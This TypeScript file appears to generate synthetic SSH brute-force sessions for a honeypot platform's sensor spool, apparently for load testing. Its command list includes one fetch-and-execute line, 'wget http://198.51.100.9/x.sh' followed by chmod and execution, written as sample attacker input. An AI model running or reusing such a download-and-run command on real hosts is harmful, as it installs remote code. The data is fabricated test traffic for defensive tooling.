import { createHash } from 'node:crypto'
import { closeSync, mkdirSync, openSync, writeSync } from 'node:fs'
import { join } from 'node:path'
import { newId } from '@decnet/kernel'
import { spoolFileName } from '@decnet/kernel/intake'
import type { SensorEvent } from '@decnet/kernel/service'
import { encodeEvent } from '@decnet/kernel/syslog'

/** Sources that come and go, sessions of each, and the passwords that all of them try. */
const SOURCES = 2_000
const PASSWORDS = 500
const FILE_BYTES = 16 * 1024 * 1024
const START = Date.UTC(2026, 0, 1)
const DECKIES = ['web-01', 'db-01', 'mail-01', 'files-01', 'router-01'] as const
const SERVICES = ['ssh', 'telnet', 'ftp', 'redis', 'mysql'] as const
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep model', 'cd /tmp; wget http://198.51.100.9/x.sh; chmod +x x.sh; ./x.sh'] as const

const uuid = (text: string): string =>
  createHash('md5')
    .update(text)
    .digest('hex')
    .replace(/^(.{8})(.{4}).(.{3}).(.{3})(.{12})$/u, '$1-$2-7$3-8$4-$5')
const b64 = (text: string): string => Buffer.from(text).toString('base64')

function* session(number: number, ts: number): Generator<SensorEvent> {
  const source = (number * 7_919) % SOURCES
  const id = uuid(`session ${number}`)
  const decky = DECKIES[number % DECKIES.length] ?? 'web-01'
  const service = SERVICES[(number >> 3) % SERVICES.length] ?? 'ssh'
  const bound = { session_id: id, src_ip: `203.0.${source >> 8}.${source & 255}`, src_port: String(20_000 + (number % 40_000)) }
  let step = 0
  const event = (type: string, severity: 5 | 6, fields: Record<string, string>): SensorEvent => ({
    id: newId(),
    ts: ts + step++,
    decky,
    service,
    type,
    severity,
    fields: { ...bound, ...fields },
  })
  yield event('connect', 6, { local_ip: '127.77.0.11', local_port: '22' })
  yield event('client_hello', 6, { client_version: 'SSH-2.0-libssh2_1.11.0', hassh: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1' })
  for (let attempt = 0; attempt < 3; attempt += 1) {
    const secret = `Passw0rd!${(number + attempt * 31) % PASSWORDS}`
    yield event('auth_attempt', 5, {
      principal: 'root',
      method: 'password',
      secret_kind: 'plaintext',
      outcome: attempt === 2 ? 'success' : 'failure',
      secret_b64: b64(secret),
      secret_printable: secret,
    })
  }
  for (const command of COMMANDS) yield event('command', 5, { command, user: 'root', cwd: '/root', mode: 'exec' })
  yield event('disconnect', 6, { reason: 'client', duration_ms: '1830', bytes_in: '2210', bytes_out: '3480' })
}

/** `count` events of sessions as brute-forcing bots leave them: nine events each, about 300 bytes a line. `from`: the first session's number. */
export function* traffic(count: number, from = 0): Generator<SensorEvent> {
  let left = count
  for (let number = from; ; number += 1) {
    for (const event of session(number, START + number * 20)) {
      if (left-- === 0) return
      yield event
    }
  }
}

/** Writes events as a sensor would: lines in files of 16 MiB, read in the order they were written. Answers the bytes. */
export function writeSpool(directory: string, events: Iterable<SensorEvent>): number {
  mkdirSync(directory, { recursive: true, mode: 0o700 })
  let lines: string[] = []
  let size = 0
  let total = 0
  const flush = () => {
    if (lines.length === 0) return
    const file = openSync(join(directory, spoolFileName(newId())), 'wx', 0o600)
    writeSync(file, lines.join(''))
    closeSync(file)
    total += size
    lines = []
    size = 0
  }
  for (const event of events) {
    const line = `${encodeEvent(event)}\n`
    lines.push(line)
    size += Buffer.byteLength(line)
    if (size >= FILE_BYTES) flush()
  }
  flush()
  return total
}
